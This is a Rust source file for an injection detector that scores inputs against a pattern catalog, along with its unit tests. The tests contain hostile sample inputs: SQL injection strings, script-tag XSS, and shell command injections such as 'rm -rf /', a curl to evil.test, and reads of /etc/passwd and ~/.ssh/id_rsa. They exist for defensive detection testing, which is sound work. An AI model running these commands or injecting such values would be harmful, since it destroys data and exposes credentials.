//! Injection detector.
//!
//! # Responsibilities
//! - Run every catalog matcher over a single string
//! - Resolve the attack class, risk level and confidence score
//!
//! # Design Decisions
//! - Pure and total: same input and catalog always give the same result
//! - A failing matcher is skipped, never surfaced to the caller
//! - Ties on severity resolve to the earliest class in catalog order

use std::sync::Arc;

use crate::detection::catalog::PatternCatalog;
use crate::detection::types::{InjectionClass, InjectionDetectionResult, RiskLevel};

/// Longest matched fragment kept in diagnostics.
const MAX_FRAGMENT_CHARS: usize = 64;

/// Cap on a single class's confidence contribution.
const CLASS_CONFIDENCE_CAP: u32 = 95;

/// Confidence added per matching pattern.
const CONFIDENCE_PER_MATCH: u32 = 20;

/// Stateless detector over a shared, immutable catalog.
#[derive(Debug, Clone)]
pub struct InjectionDetector {
    catalog: Arc<PatternCatalog>,
}

impl InjectionDetector {
    pub fn new(catalog: Arc<PatternCatalog>) -> Self {
        Self { catalog }
    }

    pub fn catalog(&self) -> &PatternCatalog {
        &self.catalog
    }

    /// Classify `input` against the catalog.
    pub fn detect(&self, input: &str) -> InjectionDetectionResult {
        if input.is_empty() {
            return InjectionDetectionResult::clean();
        }

        let mut per_class: Vec<(InjectionClass, u32)> = Vec::new();
        let mut detected_patterns = Vec::new();

        for entry in self.catalog.entries() {
            let mut count = 0u32;
            for matcher in &entry.matchers {
                match matcher.find(input) {
                    Ok(Some(fragment)) => {
                        count += 1;
                        detected_patterns
                            .push(format!("{}: {}", entry.class, truncate_fragment(&fragment)));
                    }
                    Ok(None) => {}
                    Err(e) => {
                        tracing::debug!(class = %entry.class, error = %e, "Pattern skipped");
                    }
                }
            }
            if count > 0 {
                per_class.push((entry.class, count));
            }
        }

        if per_class.is_empty() {
            return InjectionDetectionResult::clean();
        }

        // First class in catalog order with the highest base severity.
        let mut top = per_class[0].0;
        for (class, _) in &per_class[1..] {
            if class.base_severity() > top.base_severity() {
                top = *class;
            }
        }

        let total: u32 = per_class.iter().map(|(_, c)| c).sum();
        let risk_level = escalate(top.base_severity(), total);

        InjectionDetectionResult {
            detected: true,
            injection_type: Some(top),
            risk_level,
            detected_patterns,
            confidence_score: confidence(&per_class),
        }
    }
}

fn escalate(base: RiskLevel, total_matches: u32) -> RiskLevel {
    if total_matches > 3 {
        RiskLevel::Critical
    } else if total_matches > 1 && base >= RiskLevel::Medium {
        base.escalate()
    } else {
        base
    }
}

fn confidence(per_class: &[(InjectionClass, u32)]) -> u8 {
    if per_class.is_empty() {
        return 0;
    }
    let sum: u32 = per_class
        .iter()
        .map(|(_, count)| (count.saturating_mul(CONFIDENCE_PER_MATCH)).min(CLASS_CONFIDENCE_CAP))
        .sum();
    let average = sum / per_class.len() as u32;
    average.min(100) as u8
}

fn truncate_fragment(fragment: &str) -> String {
    if fragment.chars().count() <= MAX_FRAGMENT_CHARS {
        fragment.to_string()
    } else {
        let mut out: String = fragment.chars().take(MAX_FRAGMENT_CHARS).collect();
        out.push_str("...");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detection::catalog::{CatalogEntry, PatternError, PatternMatcher, RegexMatcher};

    fn detector() -> InjectionDetector {
        InjectionDetector::new(Arc::new(PatternCatalog::builtin()))
    }

    #[derive(Debug)]
    struct FailingMatcher;

    impl PatternMatcher for FailingMatcher {
        fn pattern(&self) -> &str {
            "<broken>"
        }

        fn find(&self, _input: &str) -> Result<Option<String>, PatternError> {
            Err(PatternError::Execution {
                pattern: "<broken>".into(),
                reason: "boom".into(),
            })
        }
    }

    fn regex(p: &str) -> Box<dyn PatternMatcher> {
        Box::new(RegexMatcher::new(p).unwrap())
    }

    #[test]
    fn test_sql_drop_table() {
        let result = detector().detect("'; DROP TABLE users; --");
        assert!(result.detected);
        assert_eq!(result.injection_type, Some(InjectionClass::SqlInjection));
        assert!(result.risk_level >= RiskLevel::High);
        assert!(!result.detected_patterns.is_empty());
    }

    #[test]
    fn test_email_is_not_flagged() {
        let result = detector().detect("hello@example.com");
        assert!(!result.detected);
        assert_eq!(result.risk_level, RiskLevel::None);
        assert_eq!(result.confidence_score, 0);
        assert!(result.injection_type.is_none());
    }

    #[test]
    fn test_benign_inputs() {
        let d = detector();
        for input in [
            "John O'Brien",
            "Rock & Roll",
            "550e8400-e29b-41d4-a716-446655440000",
            "Please select a size from the menu",
            "https://example.com/path?x=1",
            "+1 (555) 010-2030",
            "I love dogs; cat people are fine too",
            "Bring snacks & echo",
            "Meet at 5; id badge required",
            "Price: $(5) each",
            "It's on me'; really",
            "Salt & pepper | sharp knives",
        ] {
            assert!(!d.detect(input).detected, "false positive on {input:?}");
        }
    }

    #[test]
    fn test_command_injection_outranks_everything() {
        let result = detector().detect("file.txt; cat /etc/passwd");
        assert_eq!(result.injection_type, Some(InjectionClass::CommandInjection));
        assert_eq!(result.risk_level, RiskLevel::Critical);
    }

    #[test]
    fn test_shell_context_is_detected() {
        let d = detector();
        for input in [
            "x; rm -rf /",
            "a && curl http://evil.test/x",
            "name | sh",
            "$(whoami)",
            "`id`",
            "ok; whoami",
            "a; cat ~/.ssh/id_rsa",
        ] {
            let result = d.detect(input);
            assert_eq!(
                result.injection_type,
                Some(InjectionClass::CommandInjection),
                "missed {input:?}"
            );
        }
    }

    #[test]
    fn test_stacked_query_after_quote() {
        let result = detector().detect("x'; WAITFOR DELAY '0:0:5'");
        assert_eq!(result.injection_type, Some(InjectionClass::SqlInjection));
    }

    #[test]
    fn test_script_tag_is_xss_by_catalog_order() {
        let result = detector().detect("<script>alert(1)</script>");
        assert!(result.detected);
        // Xss and Script share High; Xss comes first in catalog order.
        assert_eq!(result.injection_type, Some(InjectionClass::XssInjection));
    }

    #[test]
    fn test_tie_break_uses_catalog_order() {
        let catalog = PatternCatalog::from_entries(vec![
            CatalogEntry::new(InjectionClass::LdapInjection, vec![regex("alpha")]),
            CatalogEntry::new(InjectionClass::PathTraversal, vec![regex("beta")]),
        ]);
        let result = InjectionDetector::new(Arc::new(catalog)).detect("alpha beta");
        assert_eq!(result.injection_type, Some(InjectionClass::LdapInjection));
        // Two matches on a Medium base escalate one level.
        assert_eq!(result.risk_level, RiskLevel::High);
    }

    #[test]
    fn test_escalation_rules() {
        assert_eq!(escalate(RiskLevel::Low, 2), RiskLevel::Low);
        assert_eq!(escalate(RiskLevel::Medium, 1), RiskLevel::Medium);
        assert_eq!(escalate(RiskLevel::Medium, 2), RiskLevel::High);
        assert_eq!(escalate(RiskLevel::High, 3), RiskLevel::Critical);
        assert_eq!(escalate(RiskLevel::Low, 4), RiskLevel::Critical);
    }

    #[test]
    fn test_confidence_is_averaged_and_clamped() {
        assert_eq!(confidence(&[]), 0);
        assert_eq!(confidence(&[(InjectionClass::SqlInjection, 1)]), 20);
        assert_eq!(confidence(&[(InjectionClass::SqlInjection, 10)]), 95);
        assert_eq!(
            confidence(&[(InjectionClass::SqlInjection, 1), (InjectionClass::XssInjection, 2)]),
            30
        );
        assert_eq!(
            confidence(&[(InjectionClass::SqlInjection, u32::MAX)]),
            95
        );
    }

    #[test]
    fn test_confidence_within_bounds_for_builtin() {
        let d = detector();
        for input in [
            "",
            "plain",
            "<script>eval(atob('x'))</script>; rm -rf / ../../etc/passwd {{7*7}}",
            "' or 1=1 -- UNION SELECT password FROM users",
        ] {
            let result = d.detect(input);
            assert!(result.confidence_score <= 100);
        }
    }

    #[test]
    fn test_failing_matcher_is_skipped() {
        let catalog = PatternCatalog::from_entries(vec![CatalogEntry::new(
            InjectionClass::SqlInjection,
            vec![Box::new(FailingMatcher), regex("(?i)drop")],
        )]);
        let result = InjectionDetector::new(Arc::new(catalog)).detect("DROP");
        assert!(result.detected);
        assert_eq!(result.detected_patterns, vec!["sql_injection: DROP".to_string()]);
    }

    #[test]
    fn test_long_fragment_truncated() {
        let fragment = "a".repeat(200);
        let out = truncate_fragment(&fragment);
        assert_eq!(out.chars().count(), MAX_FRAGMENT_CHARS + 3);
    }
}
